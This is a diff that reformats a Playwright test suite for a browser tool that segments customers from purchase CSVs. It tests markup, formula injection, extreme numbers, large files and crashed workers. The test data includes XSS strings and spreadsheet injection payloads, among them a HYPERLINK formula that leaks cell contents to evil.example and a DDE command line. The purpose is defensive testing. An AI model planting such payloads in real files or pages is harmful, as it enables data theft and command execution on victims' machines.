@@ -24,7 +24,16 @@ declare global {
   }
 }
 
-const HEADER = ['InvoiceNo', 'StockCode', 'Description', 'Quantity', 'InvoiceDate', 'UnitPrice', 'CustomerID', 'Country'];
+const HEADER = [
+  'InvoiceNo',
+  'StockCode',
+  'Description',
+  'Quantity',
+  'InvoiceDate',
+  'UnitPrice',
+  'CustomerID',
+  'Country',
+];
 type Row = readonly (string | number)[];
 
 const q = (v: string | number) => {
@@ -72,7 +81,11 @@ const day = (d: number) => {
 };
 
 /** Transactions of `ids`, each buying 1..8 times over a year, amounts varied. */
-function purchases(ids: readonly string[], seed: number, extra?: (i: number) => Partial<Record<'desc' | 'country', string>>): Row[] {
+function purchases(
+  ids: readonly string[],
+  seed: number,
+  extra?: (i: number) => Partial<Record<'desc' | 'country', string>>,
+): Row[] {
   const r = rng(seed);
   const rows: Row[] = [];
   let inv = 500000;
@@ -150,7 +163,10 @@ function parseCsv(text: string): string[][] {
 }
 
 async function download(page: Page, testId: string): Promise<{ name: string; bytes: Buffer }> {
-  const [dl] = await Promise.all([page.waitForEvent('download', { timeout: 60_000 }), page.getByTestId(testId).click()]);
+  const [dl] = await Promise.all([
+    page.waitForEvent('download', { timeout: 60_000 }),
+    page.getByTestId(testId).click(),
+  ]);
   return { name: dl.suggestedFilename(), bytes: readFileSync(await dl.path()) };
 }
 
@@ -165,13 +181,25 @@ function expectNeutral(csvText: string, where: string): void {
 
 const XSS = '<img src=x onerror=window.__pwned=1>';
 const SCRIPT = '<script>window.__pwned=2</script>';
-const FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", '-2+3', '@SUM(1+1)'];
+const FORMULAS = [
+  '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  '-2+3',
+  '@SUM(1+1)',
+];
 
 test('markup is shown as text everywhere and formulas are neutralised in every export', async ({ page }) => {
   test.setTimeout(300_000);
   const errors = watchErrors(page);
-  const ids = [...Array.from({ length: 36 }, (_, i) => `C${String(i + 1).padStart(3, '0')}`), XSS, SCRIPT, ...FORMULAS];
-  const rows = purchases(ids, 11, (i) => (i % 3 === 0 ? { desc: XSS, country: SCRIPT } : i % 5 === 0 ? { desc: FORMULAS[0]!, country: XSS } : {}));
+  const ids = [
+    ...Array.from({ length: 36 }, (_, i) => `C${String(i + 1).padStart(3, '0')}`),
+    XSS,
+    SCRIPT,
+    ...FORMULAS,
+  ];
+  const rows = purchases(ids, 11, (i) =>
+    i % 3 === 0 ? { desc: XSS, country: SCRIPT } : i % 5 === 0 ? { desc: FORMULAS[0]!, country: XSS } : {},
+  );
   const file = await writeFile('markup.csv', csv(rows));
   await page.goto('/');
   await chooseFile(page, file);
@@ -190,14 +218,21 @@ test('markup is shown as text everywhere and formulas are neutralised in every e
   await page.getByLabel('Name of segment 1').press('Tab');
   await page.getByLabel('Name of segment 2').fill('=1+1');
   await page.getByLabel('Name of segment 2').press('Tab');
-  await expect(page.locator('.segments-plots .plot[data-plot-state="drawn"]').first()).toBeVisible({ timeout: 60_000 });
+  await expect(page.locator('.segments-plots .plot[data-plot-state="drawn"]').first()).toBeVisible({
+    timeout: 60_000,
+  });
   const plots = cell(page, 'segments');
-  await expect.poll(async () => (await plots.locator('.legend').allTextContents()).join(' | '), { timeout: 30_000 }).toContain(`1 · ${XSS}`);
+  await expect
+    .poll(async () => (await plots.locator('.legend').allTextContents()).join(' | '), { timeout: 30_000 })
+    .toContain(`1 · ${XSS}`);
   // Hover over the 3D plot: whatever hover label shows up carries no live markup.
   const box = await page.getByTestId('segments-3d').boundingBox();
-  if (box) for (let i = 1; i < 10; i++) await page.mouse.move(box.x + (box.width * i) / 10, box.y + box.height / 2);
+  if (box)
+    for (let i = 1; i < 10; i++) await page.mouse.move(box.x + (box.width * i) / 10, box.y + box.height / 2);
   // Every element plotly drew: no <img>/<script> created from data.
-  const live = await page.evaluate(() => document.querySelectorAll('.notebook img, .notebook script, [onerror]').length);
+  const live = await page.evaluate(
+    () => document.querySelectorAll('.notebook img, .notebook script, [onerror]').length,
+  );
   expect(live).toBe(0);
 
   // The data preview (Columns step) shows the text literally too.
@@ -223,7 +258,9 @@ test('markup is shown as text everywhere and formulas are neutralised in every e
   }
   const profiles = await download(page, 'export-profiles');
   expectNeutral(profiles.bytes.toString('utf8'), profiles.name);
-  const model = JSON.parse((await download(page, 'export-model')).bytes.toString('utf8')) as { names?: string[] };
+  const model = JSON.parse((await download(page, 'export-model')).bytes.toString('utf8')) as {
+    names?: string[];
+  };
   expect(JSON.stringify(model)).toContain('=1+1'); // JSON is not a spreadsheet: kept exact
 
   expect(await page.evaluate(() => window.__pwned)).toBeUndefined();
@@ -231,10 +268,15 @@ test('markup is shown as text everywhere and formulas are neutralised in every e
   expect(errors).toEqual([]);
 });
 
-test('1e308, NaN and Infinity in number columns: counted or rejected, never NaN on screen', async ({ page }) => {
+test('1e308, NaN and Infinity in number columns: counted or rejected, never NaN on screen', async ({
+  page,
+}) => {
   test.setTimeout(240_000);
   const errors = watchErrors(page);
-  const rows = purchases(Array.from({ length: 30 }, (_, i) => `N${i}`), 5);
+  const rows = purchases(
+    Array.from({ length: 30 }, (_, i) => `N${i}`),
+    5,
+  );
   const weird: Row[] = [
     [900001, 'A1', 'X', '1e308', day(10), '1e308', 'N1', 'United Kingdom'],
     [900002, 'A1', 'X', 'NaN', day(11), '2.00', 'N2', 'United Kingdom'],
@@ -250,7 +292,9 @@ test('1e308, NaN and Infinity in number columns: counted or rejected, never NaN 
   await expect
     .poll(
       async () => {
-        const st = await Promise.all(['rfm', 'transform', 'segments'].map((id) => cell(page, id).getAttribute('data-status')));
+        const st = await Promise.all(
+          ['rfm', 'transform', 'segments'].map((id) => cell(page, id).getAttribute('data-status')),
+        );
         if (st.includes('error')) return 'error';
         return st[2] === 'ready' ? 'ready' : 'pending';
       },
@@ -281,16 +325,39 @@ test('one customer: a clear message; identical customers; fewer customers than k
   await expectNoJunk(page);
 
   // 20 customers who did exactly the same thing: zero variance in every feature.
-  const same: Row[] = Array.from({ length: 20 }, (_, i) => [600000 + i, 'A1', 'MUG', 2, day(100), '3.50', `S${i}`, 'France']);
+  const same: Row[] = Array.from({ length: 20 }, (_, i) => [
+    600000 + i,
+    'A1',
+    'MUG',
+    2,
+    day(100),
+    '3.50',
+    `S${i}`,
+    'France',
+  ]);
   await chooseFile(page, await writeFile('same.csv', csv(same)));
   await expect
-    .poll(async () => {
-      const s = await cell(page, 'segments').getAttribute('data-status');
-      const t = await cell(page, 'transform').getAttribute('data-status');
-      return s === 'ready' || t === 'error' || (await cell(page, 'choose-k').getAttribute('data-status')) === 'error' ? 'settled' : 'pending';
-    }, { timeout: 120_000 })
+    .poll(
+      async () => {
+        const s = await cell(page, 'segments').getAttribute('data-status');
+        const t = await cell(page, 'transform').getAttribute('data-status');
+        return s === 'ready' ||
+          t === 'error' ||
+          (await cell(page, 'choose-k').getAttribute('data-status')) === 'error'
+          ? 'settled'
+          : 'pending';
+      },
+      { timeout: 120_000 },
+    )
     .toBe('settled');
-  console.log('identical customers:', (await page.locator('.message').allInnerTexts()).join(' / ') || 'no message', '|', await cell(page, 'transform').getAttribute('data-status'), await cell(page, 'choose-k').getAttribute('data-status'), await cell(page, 'segments').getAttribute('data-status'));
+  console.log(
+    'identical customers:',
+    (await page.locator('.message').allInnerTexts()).join(' / ') || 'no message',
+    '|',
+    await cell(page, 'transform').getAttribute('data-status'),
+    await cell(page, 'choose-k').getAttribute('data-status'),
+    await cell(page, 'segments').getAttribute('data-status'),
+  );
   await expectNoJunk(page);
 
   // Three customers: k cannot exceed 3.
@@ -314,11 +381,15 @@ function manyCustomers(repeatEvery: number | null, varied = false): string {
   const r = rng(2);
   const lines: string[] = [HEADER.join(',')];
   for (let i = 0; i < 100_000; i++) {
-    lines.push(`${700000 + i},A${i % 90},ITEM,${1 + (i % 12)},${day(Math.floor(r() * 365))},${(0.5 + r() * 40).toFixed(2)},U${i},United Kingdom`);
+    lines.push(
+      `${700000 + i},A${i % 90},ITEM,${1 + (i % 12)},${day(Math.floor(r() * 365))},${(0.5 + r() * 40).toFixed(2)},U${i},United Kingdom`,
+    );
     if (repeatEvery !== null && i % repeatEvery === 0) {
       const extra = varied ? 1 + Math.floor(r() * 4) : 1;
       for (let t = 0; t < extra; t++)
-        lines.push(`${900000 + i * 5 + t},A1,ITEM,1,${day(300 + t * 10)},${(1 + r() * 9).toFixed(2)},U${i},United Kingdom`);
+        lines.push(
+          `${900000 + i * 5 + t},A1,ITEM,1,${day(300 + t * 10)},${(1 + r() * 9).toFixed(2)},U${i},United Kingdom`,
+        );
     }
   }
   return lines.join('\n') + '\n';
@@ -331,7 +402,9 @@ async function settled(page: Page, timeout: number): Promise<'ready' | 'error'> 
       async () => {
         for (const id of ['rfm', 'transform', 'choose-k', 'segments'])
           if ((await cell(page, id).getAttribute('data-status')) === 'error') return (out = 'error');
-        return (await cell(page, 'segments').getAttribute('data-status')) === 'ready' ? (out = 'ready') : 'pending';
+        return (await cell(page, 'segments').getAttribute('data-status')) === 'ready'
+          ? (out = 'ready')
+          : 'pending';
       },
       { timeout, intervals: [2000] },
     )
@@ -347,12 +420,16 @@ test('100,000 customers with one purchase each: frequency is constant, said plai
   await expectStatus(page, 'rfm', 'ready');
   await expect(page.getByTestId('rfm-customers')).toContainText('100,000 customers');
   expect(await settled(page, 240_000)).toBe('error');
-  await expect(cell(page, 'transform').getByRole('alert')).toContainText('Every customer has the same frequency (1)');
+  await expect(cell(page, 'transform').getByRole('alert')).toContainText(
+    'Every customer has the same frequency (1)',
+  );
   await expectNoJunk(page);
   expect(errors).toEqual([]);
 });
 
-test('100,000 customers, 1% of them twice: KNOWN BUG, the transform calls frequency near-constant', async ({ page }) => {
+test('100,000 customers, 1% of them twice: KNOWN BUG, the transform calls frequency near-constant', async ({
+  page,
+}) => {
   // Engine core (power-transform.ts): 99% F = 1 and 1% F = 2 fits an extreme λ whose transformed
   // spread (5e-14) trips the near-constant check, so the model refuses data a notebook would segment.
   test.fail(true, 'known engine bug: near-constant check after an extreme Yeo-Johnson λ');
@@ -373,13 +450,21 @@ test('100,000 customers, 10% of them 2–5 times: the whole model is computed', 
   const t0 = Date.now();
   const st = await settled(page, 540_000);
   expect(st, (await page.getByRole('alert').allInnerTexts()).join(' / ')).toBe('ready');
-  console.log(`100k model in ${Math.round((Date.now() - t0) / 1000)} s:`, await page.getByTestId('engine-info').innerText(), '|', await page.getByTestId('k-value').innerText());
+  console.log(
+    `100k model in ${Math.round((Date.now() - t0) / 1000)} s:`,
+    await page.getByTestId('engine-info').innerText(),
+    '|',
+    await page.getByTestId('k-value').innerText(),
+  );
   await expectNoJunk(page);
   expect(errors).toEqual([]);
 });
 
 test('a 300 MB file: loads or says it is too large; the tab survives', async ({ page }) => {
-  test.skip(process.env.HOSTILE_LARGE !== '1', 'set HOSTILE_LARGE=1 to run: it writes a 300 MB file and takes several minutes');
+  test.skip(
+    process.env.HOSTILE_LARGE !== '1',
+    'set HOSTILE_LARGE=1 to run: it writes a 300 MB file and takes several minutes',
+  );
   test.setTimeout(1_200_000);
   const errors = watchErrors(page);
   const target = 300 * 1024 * 1024;
@@ -412,13 +497,21 @@ test('a 300 MB file: loads or says it is too large; the tab survives', async ({ 
   const t0 = Date.now();
   await chooseFile(page, p);
   await expect
-    .poll(async () => {
-      const st = await cell(page, 'data').getAttribute('data-status');
-      if (st === 'error') return 'error';
-      return (await cell(page, 'rfm').getAttribute('data-status')) === 'ready' ? 'ready' : 'pending';
-    }, { timeout: 1_100_000, intervals: [5000] })
+    .poll(
+      async () => {
+        const st = await cell(page, 'data').getAttribute('data-status');
+        if (st === 'error') return 'error';
+        return (await cell(page, 'rfm').getAttribute('data-status')) === 'ready' ? 'ready' : 'pending';
+      },
+      { timeout: 1_100_000, intervals: [5000] },
+    )
     .not.toBe('pending');
-  console.log(`large file settled after ${Math.round((Date.now() - t0) / 1000)} s:`, await cell(page, 'data').innerText().then((t) => t.slice(0, 600)));
+  console.log(
+    `large file settled after ${Math.round((Date.now() - t0) / 1000)} s:`,
+    await cell(page, 'data')
+      .innerText()
+      .then((t) => t.slice(0, 600)),
+  );
   // The tab is alive and answers.
   expect(await page.evaluate(() => 1 + 1)).toBe(2);
   expect(errors.filter((e) => !/out of memory/i.test(e))).toEqual([]);
@@ -428,16 +521,35 @@ test('a 300 MB file: loads or says it is too large; the tab survives', async ({ 
  * A worker that dies. No test hook in the app: Playwright runs code inside the real worker and makes
  * it throw an uncaught error when the next request arrives — the same error event a crash gives.
  */
-test('a crashed engine worker: the user is told, earlier cells stay, Run again starts a fresh one', async ({ page }) => {
+test('a crashed engine worker: the user is told, earlier cells stay, Run again starts a fresh one', async ({
+  page,
+}) => {
   test.setTimeout(300_000);
   const pageErrors: string[] = [];
   page.on('pageerror', (e) => pageErrors.push(String(e)));
   await page.goto('/');
-  await chooseFile(page, await writeFile('crash.csv', csv(purchases(Array.from({ length: 60 }, (_, i) => `K${i}`), 21))));
+  await chooseFile(
+    page,
+    await writeFile(
+      'crash.csv',
+      csv(
+        purchases(
+          Array.from({ length: 60 }, (_, i) => `K${i}`),
+          21,
+        ),
+      ),
+    ),
+  );
   await segmentsReady(page);
   const customers = await page.getByTestId('rfm-customers').innerText();
   const engineWorker = page.workers().find((w) => w.url().includes('engine'));
-  expect(engineWorker, page.workers().map((w) => w.url()).join(', ')).toBeDefined();
+  expect(
+    engineWorker,
+    page
+      .workers()
+      .map((w) => w.url())
+      .join(', '),
+  ).toBeDefined();
   await engineWorker!.evaluate(() => {
     self.addEventListener('message', () => {
       throw new Error('simulated crash');
@@ -463,11 +575,28 @@ test('a crashed data worker: the user is told what to do, earlier results stay',
   const pageErrors: string[] = [];
   page.on('pageerror', (e) => pageErrors.push(String(e)));
   await page.goto('/');
-  await chooseFile(page, await writeFile('crash2.csv', csv(purchases(Array.from({ length: 60 }, (_, i) => `K${i}`), 22))));
+  await chooseFile(
+    page,
+    await writeFile(
+      'crash2.csv',
+      csv(
+        purchases(
+          Array.from({ length: 60 }, (_, i) => `K${i}`),
+          22,
+        ),
+      ),
+    ),
+  );
   await segmentsReady(page);
   const customers = await page.getByTestId('rfm-customers').innerText();
   const dataWorker = page.workers().find((w) => w.url().includes('data'));
-  expect(dataWorker, page.workers().map((w) => w.url()).join(', ')).toBeDefined();
+  expect(
+    dataWorker,
+    page
+      .workers()
+      .map((w) => w.url())
+      .join(', '),
+  ).toBeDefined();
   await dataWorker!.evaluate(() => {
     self.addEventListener('message', () => {
       throw new Error('simulated crash');
@@ -475,7 +604,12 @@ test('a crashed data worker: the user is told what to do, earlier results stay',
   });
   // Any cleaning change asks the data worker again.
   await cell(page, 'cleaning').getByRole('checkbox').first().click();
-  await expect(page.getByRole('alert').filter({ hasText: /stopped unexpectedly/i }).first()).toBeVisible({ timeout: 60_000 });
+  await expect(
+    page
+      .getByRole('alert')
+      .filter({ hasText: /stopped unexpectedly/i })
+      .first(),
+  ).toBeVisible({ timeout: 60_000 });
   await expect(page.getByTestId('rfm-customers')).toHaveText(customers);
   // Loading the file again (a new worker) works.
   await chooseFile(page, join(dir, 'crash2.csv'));
